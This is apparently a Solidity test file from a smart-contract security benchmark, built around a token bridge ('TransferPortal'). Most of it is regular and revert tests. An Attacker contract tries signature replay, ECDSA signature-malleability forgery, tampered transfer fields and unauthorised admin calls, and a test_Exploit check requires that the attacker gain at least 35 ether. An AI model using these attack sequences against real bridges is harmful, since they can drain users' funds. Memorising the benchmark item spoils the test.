// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import "@openzeppelin/contracts@4.9.6/token/ERC20/ERC20.sol";
import "./TransferPortal.sol";

// assay-canary-3b69da81-543d-41a1-b13b-a8e407b31eab

interface Vm {
    function warp(uint256 time) external;
    function prank(address who) external;
    function addr(uint256 key) external returns (address);
    function sign(uint256 key, bytes32 digest) external returns (uint8, bytes32, bytes32);
    function expectRevert() external;
    function expectRevert(bytes calldata reason) external;
}

contract Coin is ERC20 {
    address private immutable _minter = msg.sender;

    constructor() ERC20("Coin", "COIN") {}

    function mint(address to, uint256 amount) external {
        require(msg.sender == _minter);
        _mint(to, amount);
    }
}

contract Attacker {
    TransferPortal internal portal;
    IPortal.Transfer internal mine;
    bytes[] internal signed;

    constructor(TransferPortal portal_) {
        portal = portal_;
    }

    function learn(IPortal.Transfer calldata transfer, bytes[] calldata signatures) external {
        require(signed.length == 0);
        mine = transfer;
        for (uint256 i = 0; i < signatures.length; ++i) signed.push(signatures[i]);
    }

    function _try(bytes memory data) internal returns (bool ok) {
        (ok, ) = address(portal).call(data);
    }

    function _in(IPortal.Transfer memory transfer, bytes[] memory signatures) internal {
        _try(abi.encodeCall(portal.release, (transfer, signatures)));
    }

    /// All but one of the signatures.
    function _without(uint256 index) internal view returns (bytes[] memory some) {
        some = new bytes[](signed.length - 1);
        uint256 k;
        for (uint256 i = 0; i < signed.length; ++i) {
            if (i != index) some[k++] = signed[i];
        }
    }

    /// The same signature with the other s.
    function _mirrored(bytes memory signature) internal pure returns (bytes memory) {
        (bytes32 r, uint256 s) = (0, 0);
        assembly {
            r := mload(add(signature, 32))
            s := mload(add(signature, 64))
        }
        uint8 v = uint8(signature[64]) == 27 ? 28 : 27;
        uint256 order = 0xFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFEBAAEDCE6AF48A03BBFD25E8CD0364141;
        return abi.encodePacked(r, order - s, v);
    }

    function run() external {
        // every set of signatures
        _in(mine, signed);
        _in(mine, signed);
        for (uint256 i = 0; i < signed.length; ++i) _in(mine, _without(i));
        IPortal.Transfer[] memory twice = new IPortal.Transfer[](2);
        bytes[][] memory sets = new bytes[][](2);
        (twice[0], twice[1]) = (mine, mine);
        (sets[0], sets[1]) = (_without(0), _without(1));
        _try(abi.encodeCall(portal.releaseMany, (twice, sets)));
        // other forms
        bytes[] memory some = _without(3);
        (some[0], some[1]) = (some[1], some[0]);
        _in(mine, some);
        some = _without(3);
        some[1] = some[0];
        _in(mine, some);
        some = _without(3);
        some[2] = _mirrored(some[2]);
        _in(mine, some);
        some = _without(3);
        some[2] = abi.encodePacked(some[2], uint8(0));
        _in(mine, some);
        _in(mine, new bytes[](0));
        _in(mine, new bytes[](3));
        // other contents
        IPortal.Transfer memory other = mine;
        other.amount = 90 ether;
        _in(other, signed);
        other = mine;
        other.relayerFee = other.amount + 1;
        _in(other, signed);
        other = mine;
        other.nonce += 1;
        _in(other, signed);
        other = mine;
        other.sourceChain = block.chainid;
        _in(other, signed);
        // what belongs to the validators and the roles
        address[] memory set = new address[](1);
        set[0] = address(this);
        _try(abi.encodeCall(portal.rotateValidators, (set, 1, signed)));
        _try(abi.encodeCall(portal.rotateValidators, (set, 1, new bytes[](0))));
        _try(abi.encodeCall(portal.setLimit, (mine.token, 1000 ether, 1 ether)));
        _try(abi.encodeCall(portal.refund, (1, signed)));
        _try(abi.encodeCall(portal.refund, (2, signed)));
        _try(abi.encodeCall(portal.collectFees, (mine.token, address(this))));
        _try(abi.encodeCall(portal.pause, ()));
        _try(abi.encodeCall(portal.grantRole, (portal.GUARDIAN(), address(this))));
    }

    function later() external {
        _in(mine, _without(2));
        _in(mine, signed);
    }
}

contract Proof {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));
    address private constant ALICE = address(0xA11CE);
    address private constant RELAYER = address(0x2E1A);
    address private constant STRANGER = address(0x57);

    Coin public coin;
    TransferPortal private portal;
    Attacker private recipient;
    uint256[] private keys;

    function _set(uint256 first, uint256 count) private returns (uint256[] memory k, address[] memory who) {
        k = new uint256[](count);
        who = new address[](count);
        for (uint256 i = 0; i < count; ++i) {
            uint256 key = uint256(keccak256(abi.encode("validator", first + i)));
            address a = vm.addr(key);
            uint256 j = i;
            for (; j > 0 && who[j - 1] > a; --j) (who[j], k[j]) = (who[j - 1], k[j - 1]);
            (who[j], k[j]) = (a, key);
        }
    }

    function _sign(bytes32 digest, uint256 count) private returns (bytes[] memory signatures) {
        signatures = new bytes[](count);
        for (uint256 i = 0; i < count; ++i) {
            (uint8 v, bytes32 r, bytes32 s) = vm.sign(keys[i], digest);
            signatures[i] = abi.encodePacked(r, s, v);
        }
    }

    function _transfer(uint256 nonce, address to, uint256 amount, uint256 fee)
        private
        view
        returns (IPortal.Transfer memory)
    {
        return IPortal.Transfer(42161, nonce, address(coin), to, amount, fee);
    }

    function _signed(IPortal.Transfer memory transfer, uint256 count) private returns (bytes[] memory) {
        return _sign(portal.transferDigest(transfer), count);
    }

    function setUp() public {
        vm.warp(1_795_000_000);
        coin = new Coin();
        address[] memory who;
        (keys, who) = _set(0, 4);
        portal = new TransferPortal(address(this), who, 3);
        portal.setLimit(address(coin), 100 ether, 0.001 ether);
        portal.setDestination(10, true);
        coin.mint(address(portal), 1000 ether);
        coin.mint(ALICE, 100 ether);
        vm.prank(ALICE);
        coin.approve(address(portal), type(uint256).max);
        recipient = new Attacker(portal);
        IPortal.Transfer memory small = _transfer(1, address(recipient), 10 ether, 0);
        recipient.learn(small, _signed(small, 4));
    }

    function test_Regular() public {
        vm.prank(ALICE);
        require(portal.deposit(address(coin), 40 ether, 10, bytes32(uint256(1))) == 1, "deposited");
        IPortal.Transfer memory t = _transfer(2, ALICE, 30 ether, 1 ether);
        bytes[] memory signatures = _signed(t, 3);
        vm.prank(RELAYER);
        portal.release(t, signatures);
        require(coin.balanceOf(ALICE) == 89 ether && coin.balanceOf(RELAYER) == 1 ether, "released");
        require(portal.available(address(coin)) == 70 ether, "limit");
        vm.warp(block.timestamp + 10_000);
        require(portal.available(address(coin)) == 80 ether, "refilled");

        (uint256[] memory next, address[] memory who) = _set(10, 5);
        portal.rotateValidators(who, 4, _sign(portal.rotationDigest(who, 4), 4));
        require(portal.epoch() == 2 && portal.validators().length == 5 && portal.threshold() == 4, "rotated");
        t = _transfer(3, ALICE, 5 ether, 0);
        signatures = _signed(t, 4);
        (bool ok, ) = address(portal).call(abi.encodeCall(portal.release, (t, signatures)));
        require(!ok, "the old ones");
        keys = next;
        IPortal.Transfer[] memory list = new IPortal.Transfer[](2);
        bytes[][] memory sets = new bytes[][](2);
        (list[0], list[1]) = (t, _transfer(4, ALICE, 6 ether, 0));
        (sets[0], sets[1]) = (_signed(list[0], 4), _signed(list[1], 5));
        portal.releaseMany(list, sets);
        require(coin.balanceOf(ALICE) == 100 ether, "both");

        // a deposit with a fee, which comes back
        portal.setDepositFee(50);
        portal.setMinimum(address(coin), 1 ether);
        vm.prank(ALICE);
        uint256 nonce = portal.deposit(address(coin), 20 ether, 10, bytes32(uint256(1)));
        require(nonce == 2 && portal.departureOf(2).amount == 19.9 ether, "less the fee");
        portal.refund(2, _sign(portal.refundDigest(2), 4));
        require(coin.balanceOf(ALICE) == 99.9 ether && portal.departureOf(2).sender == address(0), "refunded");
        portal.collectFees(address(coin), RELAYER);
        require(coin.balanceOf(RELAYER) == 1.1 ether && portal.feesOf(address(coin)) == 0, "fees");
        t = _transfer(5, ALICE, 1 ether, 0);
        bytes32 id = portal.transferDigest(t);
        portal.setBlocked(id, true);
        signatures = _signed(t, 4);
        (ok, ) = address(portal).call(abi.encodeCall(portal.release, (t, signatures)));
        require(!ok && portal.isBlocked(id), "blocked");
        portal.setBlocked(id, false);

        portal.pause();
        require(portal.paused(), "paused");
        portal.unpause();
        portal.setDestination(10, false);
        bytes32 role = portal.GUARDIAN();
        portal.grantRole(role, ALICE);
        portal.revokeRole(role, ALICE);
        portal.renounceRole(role);
        require(!portal.hasRole(role, ALICE) && !portal.hasRole(role, address(this)), "roles");
    }

    // What is refused, each from the state after setUp().

    function test_RefusesSets() public {
        (, address[] memory who) = _set(0, 3);
        vm.expectRevert("TransferPortal: zero admin");
        new TransferPortal(address(0), who, 3);
        vm.expectRevert("ValidatorSet: bad threshold");
        new TransferPortal(address(this), who, 2);
        vm.expectRevert("ValidatorSet: bad threshold");
        new TransferPortal(address(this), who, 4);
        vm.expectRevert("ValidatorSet: bad number of validators");
        new TransferPortal(address(this), new address[](0), 0);
        (, address[] memory many) = _set(0, 31);
        vm.expectRevert("ValidatorSet: bad number of validators");
        new TransferPortal(address(this), many, 31);
        who[1] = who[0];
        vm.expectRevert("ValidatorSet: not in order");
        new TransferPortal(address(this), who, 3);
    }

    function test_RefusesSignatures() public {
        IPortal.Transfer memory t = _transfer(2, ALICE, 1 ether, 0);
        bytes[] memory s = _signed(t, 2);
        vm.expectRevert("ValidatorSet: too few signatures");
        portal.release(t, s);
        s = _signed(t, 3);
        s[2] = s[1];
        vm.expectRevert("ValidatorSet: not in order");
        portal.release(t, s);
        (keys, ) = _set(20, 3);
        s = _signed(t, 3);
        vm.expectRevert("ValidatorSet: not a validator");
        portal.release(t, s);
        (, address[] memory who) = _set(20, 3);
        s = _sign(portal.rotationDigest(who, 3), 3);
        vm.expectRevert("ValidatorSet: not a validator");
        portal.rotateValidators(who, 3, s);
    }

    function refused(IPortal.Transfer memory t, bytes memory why) private {
        bytes[] memory s = _signed(t, 3);
        vm.expectRevert(why);
        portal.release(t, s);
    }

    function test_RefusesTransfers() public {
        IPortal.Transfer memory t = _transfer(2, ALICE, 1 ether, 0);
        t.sourceChain = block.chainid;
        refused(t, "TransferPortal: bad chain");
        refused(_transfer(2, address(0), 1 ether, 0), "TransferPortal: zero recipient");
        refused(_transfer(2, ALICE, 1 ether, 1 ether + 1), "TransferPortal: fee too high");
        refused(_transfer(2, ALICE, 100 ether + 1, 0), "RateLimiter: over the limit");
        portal.setBlocked(portal.transferDigest(_transfer(2, ALICE, 1 ether, 0)), true);
        refused(_transfer(2, ALICE, 1 ether, 0), "TransferPortal: blocked");
        portal.setBlocked(portal.transferDigest(_transfer(2, ALICE, 1 ether, 0)), false);
        t = _transfer(2, ALICE, 1 ether, 0);
        portal.release(t, _signed(t, 3));
        refused(t, "TransferPortal: already released");
        IPortal.Transfer[] memory list = new IPortal.Transfer[](1);
        list[0] = _transfer(3, ALICE, 1 ether, 0);
        bytes[][] memory sets = new bytes[][](2);
        sets[0] = _signed(list[0], 3);
        vm.expectRevert("TransferPortal: lengths differ");
        portal.releaseMany(list, sets);
    }

    function test_RefusesDeposits() public {
        vm.prank(ALICE);
        vm.expectRevert("TransferPortal: destination closed");
        portal.deposit(address(coin), 1 ether, 11, bytes32(uint256(1)));
        Coin other = new Coin();
        other.mint(address(this), 1 ether);
        other.approve(address(portal), 1 ether);
        vm.expectRevert("TransferPortal: token not supported");
        portal.deposit(address(other), 1 ether, 10, bytes32(uint256(1)));
        vm.prank(ALICE);
        vm.expectRevert("TransferPortal: zero recipient");
        portal.deposit(address(coin), 1 ether, 10, 0);
        vm.prank(ALICE);
        vm.expectRevert("TransferPortal: too little received");
        portal.deposit(address(coin), 0, 10, bytes32(uint256(1)));
        portal.setMinimum(address(coin), 2 ether);
        vm.prank(ALICE);
        vm.expectRevert("TransferPortal: too little received");
        portal.deposit(address(coin), 1 ether, 10, bytes32(uint256(1)));
    }

    function test_RefusesRefunds() public {
        bytes[] memory s = _sign(portal.refundDigest(1), 3);
        vm.expectRevert("TransferPortal: no such deposit");
        portal.refund(1, s);
        vm.prank(ALICE);
        portal.deposit(address(coin), 2 ether, 10, bytes32(uint256(1)));
        uint256[] memory kept = keys;
        (keys, ) = _set(20, 3);
        s = _sign(portal.refundDigest(1), 3);
        vm.expectRevert("ValidatorSet: not a validator");
        portal.refund(1, s);
        keys = kept;
        s = _sign(portal.refundDigest(1), 3);
        portal.setLimit(address(coin), 1 ether, 0);
        vm.expectRevert("RateLimiter: over the limit");
        portal.refund(1, s);
        portal.setLimit(address(coin), 100 ether, 0);
        portal.pause();
        vm.expectRevert("Pausable: paused");
        portal.refund(1, s);
        portal.unpause();
        portal.refund(1, s);
        vm.expectRevert("TransferPortal: no such deposit");
        portal.refund(1, s);
    }

    function test_RefusesSettings() public {
        vm.expectRevert("TransferPortal: bad chain");
        portal.setDestination(0, true);
        vm.expectRevert("TransferPortal: bad chain");
        portal.setDestination(block.chainid, true);
        vm.expectRevert("TransferPortal: fee too high");
        portal.setDepositFee(101);
        vm.expectRevert("RateLimiter: zero token");
        portal.setLimit(address(0), 1, 1);
        vm.expectRevert("RateLimiter: bad limit");
        portal.setLimit(address(coin), 1 << 128, 1);
        vm.expectRevert("RateLimiter: bad limit");
        portal.setLimit(address(coin), 1, 2);
    }

    function test_RefusesStrangers() public {
        vm.prank(STRANGER);
        vm.expectRevert("Roles: not authorized");
        portal.setLimit(address(coin), 1, 1);
        vm.prank(STRANGER);
        vm.expectRevert("Roles: not authorized");
        portal.setDestination(10, false);
        bytes32 role = portal.GUARDIAN();
        vm.prank(STRANGER);
        vm.expectRevert("Roles: not authorized");
        portal.grantRole(role, STRANGER);
        vm.prank(STRANGER);
        vm.expectRevert("Roles: not authorized");
        portal.revokeRole(role, address(this));
        vm.prank(STRANGER);
        vm.expectRevert("Roles: not authorized");
        portal.setMinimum(address(coin), 1);
        vm.prank(STRANGER);
        vm.expectRevert("Roles: not authorized");
        portal.setDepositFee(1);
        vm.prank(STRANGER);
        vm.expectRevert("Roles: not authorized");
        portal.collectFees(address(coin), STRANGER);
        vm.prank(STRANGER);
        vm.expectRevert("Roles: not authorized");
        portal.setBlocked("id", true);
        vm.prank(STRANGER);
        vm.expectRevert("Roles: not authorized");
        portal.pause();
        portal.pause();
        vm.prank(STRANGER);
        vm.expectRevert("Roles: not authorized");
        portal.unpause();
        vm.prank(ALICE);
        vm.expectRevert("Pausable: paused");
        portal.deposit(address(coin), 1 ether, 10, bytes32(uint256(1)));
        refused(_transfer(2, ALICE, 1 ether, 0), "Pausable: paused");
        vm.expectRevert("Pausable: paused");
        portal.releaseMany(new IPortal.Transfer[](0), new bytes[][](0));
    }

    function exploit() public {
        recipient.run();
        vm.warp(block.timestamp + 1 days);
        recipient.later();
    }

    function test_Exploit() public {
        uint256 before = coin.balanceOf(address(recipient));
        exploit();
        require(coin.balanceOf(address(recipient)) >= before + 35 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(portal);
    }

    function attacker() public view returns (address) {
        return address(recipient);
    }
}
